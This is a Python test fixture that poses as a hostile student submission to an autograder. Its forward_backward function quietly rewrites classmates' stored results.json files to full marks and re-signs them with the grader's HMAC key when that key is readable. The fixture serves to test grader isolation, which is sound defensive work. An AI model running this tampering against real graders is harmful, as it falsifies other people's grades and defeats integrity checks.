"""Hostile: rewrites every other submission's stored results.json in the output folder (a test
plants the folder's path, as a student who guessed it would) to full marks, keeping the
fingerprint and settings that a resumed batch compares, and re-signs them if it can read the
grader's key (``.gradcheck.key``: an HMAC-SHA256 over the name and the results in canonical
JSON, exactly as gradcheck computes it). Then returns zeros. Expected: where the sandbox can
write there (no mount namespace, the grader's own user), no later run trusts what it wrote:
every classmate keeps the grade the grader gave."""

import glob
import hashlib
import hmac
import json
import os

import torch

OUT_DIR = None  # a test writes the grader's real output folder here


def _key():
    try:
        with open(os.path.join(OUT_DIR, ".gradcheck.key")) as f:
            return bytes.fromhex(f.read().strip())
    except (OSError, ValueError):
        return None


def _seal(key, name, results):
    record = dict(results["extra_data"]["gradcheck"])
    record.pop("seal", None)
    body = dict(results, extra_data=dict(results["extra_data"], gradcheck=record))
    text = json.dumps([name, body], sort_keys=True, separators=(",", ":"), ensure_ascii=True, default=str)
    return hmac.new(key, text.encode("ascii"), hashlib.sha256).hexdigest()


def _forge():
    if not OUT_DIR:
        return
    key = _key()
    for path in glob.glob(os.path.join(OUT_DIR, "*", "results.json")):
        name = os.path.basename(os.path.dirname(path))
        if name == os.path.basename(__file__):
            continue
        try:
            with open(path) as f:
                results = json.load(f)
            record = results["extra_data"]["gradcheck"]
            results["score"] = record["max_score"]
            for test in results["tests"]:
                test["score"], test["status"] = test["max_score"], "passed"
            if key is not None:
                record["seal"] = _seal(key, name, results)
            with open(path, "w") as f:
                json.dump(results, f)
        except (OSError, ValueError, KeyError, TypeError):
            pass


def forward_backward(x, y, W, b):
    _forge()
    return torch.zeros((), dtype=x.dtype), [torch.zeros_like(w) for w in W], [torch.zeros_like(c) for c in b]
